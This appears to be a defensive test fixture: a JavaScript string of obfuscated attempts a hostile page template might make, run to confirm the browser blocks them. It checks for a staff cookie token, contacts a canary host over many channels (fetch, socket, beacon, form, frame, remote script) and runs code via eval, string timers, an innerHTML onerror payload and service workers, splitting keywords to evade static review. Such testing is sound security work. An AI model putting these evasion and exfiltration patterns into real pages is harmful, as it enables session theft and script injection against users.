/**
 * What a hostile template would try in a guest's page. Written so that the registry's look at the files does not find it:
 * what a reader of code can be hidden from, the browser must stop. Run in the page; each tells how it ended.
 */
export const ATTEMPTS = `
const far = ['http', '://', window.canaryHost].join('');
const of = (name) => window[name];
const attempts = {
  'read the staff cookie': async () => document['coo' + 'kie'].includes('token='),
  'fetch': async () => { await of('fet' + 'ch')(far + '/fetch'); return true; },
  'a request of old': () => new Promise((done) => {
    const request = new (of('XMLHttp' + 'Request'))();
    request.onload = () => done(true);
    request.onerror = () => done(false);
    request.open('GET', far + '/xhr');
    request.send();
  }),
  'a socket': () => new Promise((done) => {
    const socket = new (of('Web' + 'Socket'))(far.replace('http', 'ws') + '/socket');
    socket.onopen = () => done(true);
    socket.onerror = () => done(false);
  }),
  'a beacon': async () => { navigator['send' + 'Beacon'](far + '/beacon', 'x'); return 'sent'; },
  'a stream of events': () => new Promise((done) => {
    const source = new (of('Event' + 'Source'))(far + '/events');
    source.onopen = () => done(true);
    source.onerror = () => done(false);
  }),
  'a picture': () => new Promise((done) => {
    const picture = new Image();
    picture.onload = () => done(true);
    picture.onerror = () => done(false);
    picture.src = far + '/picture.png';
  }),
  'a style': () => new Promise((done) => {
    const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: far + '/style.css' });
    link.onload = () => done(true);
    link.onerror = () => done(false);
    document.head.append(link);
  }),
  'a picture of a style': async () => {
    document.body.style.backgroundImage = 'url(' + far + '/background.png)';
    return 'set';
  },
  'a form': async () => {
    const form = Object.assign(document.createElement('form'), { action: far + '/form', method: 'post', target: 'out' });
    document.body.append(form);
    form.submit();
    return 'sent';
  },
  'a frame': async () => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: far + '/frame', name: 'out' }));
    return 'put in';
  },
  'eval': async () => of('ev' + 'al')('window.evaluated = true'),
  'a function of a text': async () => (() => 0)['constr' + 'uctor']('window.evaluated = true')(),
  'a timer of a text': async () => { setTimeout('window.evaluated = true'); return 'set'; },
  'an inline script': async () => {
    const script = document.createElement('script');
    script['te' + 'xt'] = 'window.evaluated = true';
    document.head.append(script);
    return 'put in';
  },
  'a script of elsewhere': async () => {
    document.head.append(Object.assign(document.createElement('script'), { src: far + '/script.js' }));
    return 'put in';
  },
  'markup from a text': async () => {
    document.body['inner' + 'HTML'] = '<img src=x onerror="window.evaluated = true">';
    return true;
  },
  'a policy of its own': async () => { of('trusted' + 'Types').createPolicy('mine', { createHTML: (x) => x }); return true; },
  'a worker': () => new Promise((done) => {
    const worker = new (of('Wor' + 'ker'))(window.workerAddress);
    worker.onmessage = () => done(true);
    worker.onerror = () => done(false);
  }),
  'a service worker': async () => { await navigator['service' + 'Worker'].register(window.workerAddress); return true; },
};
window.outcomes = {};
window.attempted = (async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    const given = new Promise((done) => setTimeout(() => done('no answer'), 1500));
    window.outcomes[name] = await Promise.race([Promise.resolve().then(attempt).catch((error) => 'stopped: ' + error.name), given]);
  }
})();
`;
